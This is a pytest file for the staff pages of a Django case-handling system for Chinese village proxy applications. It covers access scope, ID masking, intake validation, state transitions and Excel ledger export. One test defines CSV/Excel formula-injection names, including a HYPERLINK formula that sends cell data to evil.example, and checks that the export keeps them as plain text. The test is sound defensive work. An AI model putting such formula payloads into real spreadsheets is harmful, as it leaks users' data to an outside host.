"""Staff pages for cases, through Django's test client: scope, forms, actions, ledger."""

import io
import zipfile

import pytest
from openpyxl import load_workbook

from bianmin.cases.models import Case, State
from bianmin.cases.services import case_transition
from bianmin.catalog.models import Tier
from bianmin.tests_factories import CaseFactory, ItemFactory

ID_OK = "11010519491231002X"
ID_MASKED = "110105********002X"


def proxy_item(county, *, local_code="MZ-DB-01", **overrides):
    """A published county item the village may proxy: civil affairs accepts and decides."""
    fields = {
        "accept_tier": Tier.COUNTY,
        "decide_tier": Tier.COUNTY,
        "result_name": "低保证",
        "materials": [
            {"name": "居民身份证", "originals": 1, "copies": 1},
            {"name": "户口簿", "originals": 1, "copies": 1, "note": "全户页"},
            {"name": "家庭收入情况声明", "originals": 1, "copies": 0},
        ],
        "steps": [],
    }
    return ItemFactory(county=county, local_code=local_code, **{**fields, **overrides})


def register(county, version, *, agent=None, missing=()):
    """A proxy case taken by the village agent (汉王村 by default), registered and no further."""
    return CaseFactory(
        county=county,
        item_version=version,
        proxy=True,
        actor=(agent or county.a11).user,
        materials={
            m.pk: ("missing" if m.name in missing else "provided") for m in version.materials.all()
        },
        id_number=ID_OK,
        phone="13912345678",
    )


def act(case, action, actor, **params):
    case.refresh_from_db()
    return case_transition(case=case, action=action, actor=getattr(actor, "user", actor), **params)


def to_department(county, case):
    act(case, "forward", county.a11)
    act(case, "receive", county.t1_staff)
    act(case, "forward", county.t1_staff)
    act(case, "receive", county.civil)
    return case


def to_concluded(county, case, *, approved=True, reasons=""):
    to_department(county, case)
    act(case, "accept", county.civil)
    act(case, "review", county.civil)
    act(case, "decide", county.civil, approved=approved, reasons=reasons)
    act(case, "conclude", county.civil)
    return case


@pytest.fixture
def item(county):
    return proxy_item(county)


def login(client, user):
    client.force_login(user)
    return client


def test_services_walk_the_proxy_loop(county, item):
    """Sanity of the helpers the page tests rely on (the engine's own tests cover the rules)."""
    case = to_concluded(county, register(county, item))
    act(case, "hand_back", county.civil)
    act(case, "receive", county.t1_staff)
    act(case, "hand_back", county.t1_staff)
    act(case, "receive", county.a11)
    case.refresh_from_db()
    assert case.state == State.TO_DELIVER
    assert case.current_unit == county.s11


def test_queues_show_own_cases_with_masked_ids_not_other_villages(county, item, client):
    case = register(county, item)
    login(client, county.a11.user)
    r = client.get("/cases/queues/")
    body = r.content.decode()
    assert r.status_code == 200
    assert case.number in body
    assert ID_MASKED in body and ID_OK not in body
    login(client, county.a21.user)
    assert case.number not in client.get("/cases/queues/").content.decode()


def test_detail_allowed_in_scope_forbidden_to_another_village(county, item, client):
    case = register(county, item)
    login(client, county.a11.user)
    r = client.get(f"/cases/{case.number}/")
    assert r.status_code == 200
    body = r.content.decode()
    assert ID_MASKED in body and ID_OK not in body
    assert "action-forward" in body  # the agent may forward it
    login(client, county.a12.user)
    assert client.get(f"/cases/{case.number}/").status_code == 403
    assert client.get(f"/cases/{case.number}/documents/register/").status_code == 403
    assert client.get("/cases/NO-SUCH-CASE/").status_code == 404


def test_anonymous_is_sent_to_login(client):
    r = client.get("/cases/queues/")
    assert r.status_code == 302 and "/accounts/login/" in r["Location"]


def intake_post(version, **over):
    data = {
        "item": str(version.pk),
        "applicant_kind": "person",
        "applicant_name": "李四",
        "id_number": ID_OK,
        "phone": "13912345678",
        "entrusted": "on",
    }
    for m in version.materials.all():
        data[f"material_{m.pk}"] = "provided"
    data.update(over)
    return data


def test_intake_bad_id_keeps_input_and_saves_nothing(county, item, client):
    login(client, county.a11.user)
    r = client.post("/cases/new/", intake_post(item, id_number="110105194912310021"))
    assert r.status_code == 400
    body = r.content.decode()
    assert "居民身份证号校验位错误" in body
    assert 'value="110105194912310021"' in body
    assert 'value="李四"' in body
    assert Case.objects.count() == 0


def test_intake_without_entrustment_is_refused_by_the_service(county, item, client):
    login(client, county.a11.user)
    data = intake_post(item)
    del data["entrusted"]
    r = client.post("/cases/new/", data)
    assert r.status_code == 422
    assert "代办须有申请人签署的委托书" in r.content.decode()
    assert Case.objects.count() == 0


def test_intake_registers_a_proxy_case(county, item, client):
    login(client, county.a11.user)
    assert client.get("/cases/new/").status_code == 200
    # One search box finds the item by pinyin initials (最低生活保障审核确认 -> zdshbzshqr).
    r = client.get("/cases/new/items/", {"item_q": "zdsh"})
    assert "最低生活保障审核确认" in r.content.decode()
    missing = item.materials.get(name="户口簿")
    r = client.post("/cases/new/", intake_post(item, **{f"material_{missing.pk}": "missing"}))
    case = Case.objects.get()
    assert r.status_code == 302 and r["Location"] == f"/cases/{case.number}/"
    assert case.channel == "proxy" and case.agent == county.a11
    assert case.first_responder == county.a11.user
    assert case.materials.get(material=missing).status == "missing"


def test_supervisor_cannot_open_intake(county, client):
    login(client, county.supervisor.user)
    assert client.get("/cases/new/").status_code == 403


def test_action_forward_through_the_page(county, item, client):
    case = register(county, item)
    login(client, county.a11.user)
    r = client.post(f"/cases/{case.number}/actions/forward/", {"lock_version": case.lock_version})
    assert r.status_code == 302
    case.refresh_from_db()
    assert case.state == State.FORWARDED and case.current_unit == county.tc1


def test_stale_form_gets_conflict_and_nothing_changes(county, item, client):
    case = register(county, item)
    login(client, county.a11.user)
    stale = case.lock_version
    act(case, "assign", county.a11)
    act(case, "release", county.a11)
    r = client.post(f"/cases/{case.number}/actions/forward/", {"lock_version": stale})
    assert r.status_code == 409
    assert "已被他人修改" in r.content.decode()
    case.refresh_from_db()
    assert case.state == State.SUBMITTED


def test_agent_of_another_village_cannot_act(county, item, client):
    case = register(county, item)
    login(client, county.a12.user)
    r = client.post(f"/cases/{case.number}/actions/forward/", {"lock_version": case.lock_version})
    assert r.status_code == 403
    case.refresh_from_db()
    assert case.state == State.SUBMITTED


def test_refusal_without_reasons_shows_error_and_keeps_the_form(county, item, client):
    case = register(county, item)
    to_department(county, case)
    act(case, "accept", county.civil)
    act(case, "review", county.civil)
    case.refresh_from_db()
    login(client, county.civil.user)
    r = client.post(
        f"/cases/{case.number}/actions/decide/",
        {"lock_version": case.lock_version, "approved": "0", "reasons": ""},
    )
    assert r.status_code == 422
    assert "不予批准必须书面说明理由" in r.content.decode()
    case.refresh_from_db()
    assert case.state == State.REVIEWED
    r = client.post(
        f"/cases/{case.number}/actions/decide/",
        {"lock_version": case.lock_version, "approved": "0", "reasons": "家庭人均收入高于低保标准"},
    )
    assert r.status_code == 302
    case.refresh_from_db()
    assert case.approved is False and case.reasons == "家庭人均收入高于低保标准"


def test_illegal_transition_is_a_conflict(county, item, client):
    case = register(county, item)
    login(client, county.a11.user)
    r = client.post(f"/cases/{case.number}/actions/deliver/", {"lock_version": case.lock_version})
    # The signature is checked first; with a signature the engine refuses the state.
    assert r.status_code in (409, 422)
    case.refresh_from_db()
    assert case.state == State.SUBMITTED


def test_ledger_filters_and_exports_masked_excel(county, item, client):
    case = register(county, item)
    other = proxy_item(county, local_code="MZ-LS-02", name="临时救助审批")
    register(county, other)
    register(county, item, agent=county.a21)
    login(client, county.t1_staff.user)
    r = client.get("/cases/ledger/", {"item": "临时救助"})
    body = r.content.decode()
    assert r.status_code == 200
    assert "临时救助审批" in body and case.number not in body
    r = client.get("/cases/ledger/", {"item": "最低生活", "export": "xlsx"})
    assert r.status_code == 200
    ws = load_workbook(io.BytesIO(r.content)).active
    rows = list(ws.iter_rows(min_row=4, values_only=True))
    assert [row[0] for row in rows] == [case.number]  # the other township's case is not in scope
    assert rows[0][3] == ID_MASKED
    r = client.get("/cases/ledger/", {"start": "2026-02-01", "end": "2026-01-01"})
    assert r.status_code == 400 and "截止日期不能早于起始日期" in r.content.decode()


HOSTILE_NAMES = ('=HYPERLINK("http://evil.example/?"&A1,"点我")', "王\x0b五", "@SUM(1)", "-1+2")


def test_ledger_export_shows_hostile_names_as_text(county, item, client):
    """Names stored before the input gate refused control characters (or typed by anyone, for a
    leading = + - @) export as the text they are: never a formula, never a broken workbook."""
    cases = [register(county, item) for _ in HOSTILE_NAMES]
    for case, name in zip(cases, HOSTILE_NAMES, strict=True):
        Case.objects.filter(pk=case.pk).update(applicant_name=name)
    login(client, county.t1_staff.user)
    r = client.get("/cases/ledger/", {"export": "xlsx"})
    assert r.status_code == 200
    ws = load_workbook(io.BytesIO(r.content)).active
    cells = {row[0].value: row[2] for row in ws.iter_rows(min_row=4)}
    shown = [cells[case.number] for case in cases]
    assert [c.value for c in shown] == [HOSTILE_NAMES[0], "王五", "@SUM(1)", "-1+2"]
    assert all(c.data_type == "s" and c.quotePrefix for c in shown if c.value != "王五")
    # What LibreOffice and Excel read: inline strings, and no formula element anywhere.
    with zipfile.ZipFile(io.BytesIO(r.content)) as xlsx:
        xml = xlsx.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<t>=HYPERLINK(" in xml


def test_case_list_filters_by_queue_and_refuses_unknown_queue(county, item, client):
    case = register(county, item)
    login(client, county.a11.user)
    # A county item at the village station waits to be passed on to the township, not accepted.
    assert case.number in client.get("/cases/", {"queue": "to_forward"}).content.decode()
    assert case.number not in client.get("/cases/", {"queue": "to_accept"}).content.decode()
    assert case.number not in client.get("/cases/", {"queue": "to_deliver"}).content.decode()
    assert client.get("/cases/", {"queue": "bogus"}).status_code == 422


def test_queue_labels_follow_the_request_language(client, county):
    """The queue table is built at import: its labels are read per request, not frozen then."""
    client.force_login(county.t1_staff.user)
    assert "待受理" in client.get("/cases/queues/").content.decode()
    page = client.get("/cases/queues/", HTTP_ACCEPT_LANGUAGE="en").content.decode()
    assert "待受理" not in page
